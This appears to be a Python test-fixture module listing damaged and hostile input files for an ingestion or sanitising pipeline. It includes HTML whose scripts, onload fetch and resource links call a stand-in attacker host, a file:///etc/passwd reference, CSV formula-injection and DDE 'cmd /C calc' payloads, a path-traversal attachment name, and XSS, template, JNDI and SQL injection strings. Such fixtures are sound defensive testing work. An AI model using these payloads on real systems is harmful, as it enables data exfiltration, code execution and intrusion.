"""Texts that are damaged, mean or only unusual."""

from __future__ import annotations

from collections.abc import Mapping

_HTML = b"""<!DOCTYPE html><html><head><title>Note</title>
<script>document.write("written by a script")</script>
<meta http-equiv="refresh" content="0; url=http://attacker.example/">
<link rel="stylesheet" href="http://attacker.example/x.css">
<style>@import url(http://attacker.example/y.css); body{background:url(http://attacker.example/z.png)}</style>
</head><body onload="fetch('http://attacker.example/')">
<img src="http://attacker.example/pixel.png"><img src="file:///etc/passwd">
<iframe src="http://attacker.example/"></iframe>
<p>The bag is <b onclick="x()">red</b> &lt;script&gt;alert(1)&lt;/script&gt;.</p>
<svg><script>alert(2)</script></svg></body></html>"""

_FORMULAS = b"""file,note
IMG_0001.JPG,"=HYPERLINK(""http://attacker.example/?""&A1,""click"")"
IMG_0002.JPG,+1+cmd|' /C calc'!A0
IMG_0003.JPG,@SUM(1+1)*cmd|' /C calc'!A0
IMG_0004.JPG,-2+3
"""

_MAIL = b"""From: =?utf-8?B?broken
Subject: =?koi8-r?Q?=ZZ?= bag
Date: yesterday at noon
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="xx"

--xx
Content-Type: text/plain; charset=no-such-set
Content-Transfer-Encoding: base64

VGhlIGJhZyBpcyByZWQu@@@
--xx
Content-Type: image/png
Content-Disposition: attachment; filename="../../../tmp/evil.png"
Content-Transfer-Encoding: base64

iVBORw0KGgo=
"""

_MARKUP = (
    b"<b>bold</b> <img src=x onerror=alert(1)> </para> &amp; <font size=99999> "
    b"{{7*7}} ${jndi:x} '; DROP TABLE image; --"
)

_CONTROLS = "The bag \x1b[31mis red\x1b[0m.\x07 \u202eslluf si gab ehT\u202c \u200bA zero\u200bwidth."

TEXTS: Mapping[str, bytes] = {
    "active.html": _HTML,
    "formulas.csv": _FORMULAS,
    "malformed.eml": _MAIL.replace(b"\n", b"\r\n"),
    "nul_bytes.txt": b"The bag\0 is red.\0\0 No knife was found.",
    "controls.txt": _CONTROLS.encode(),
    "utf16.txt": b"\xff\xfe"
    + "The backpack is red; 3 \u00b5m of dust. Gr\u00f6\u00dfe: 20 cm.".encode("utf-16-le"),
    "latin1.txt": "Der Rucksack ist rot. Gr\u00f6\u00dfe: 20 cm, Stra\u00dfe 4.".encode("latin-1"),
    "invalid_utf8.txt": b"The bag is red \xff\xfe\xc3\x28 and the knife is black.",
    "markup.txt": _MARKUP,
    "long_line.txt": b"exhibit 1 " * 200_000,
    "only_blanks.txt": b" \t\n \n",
}
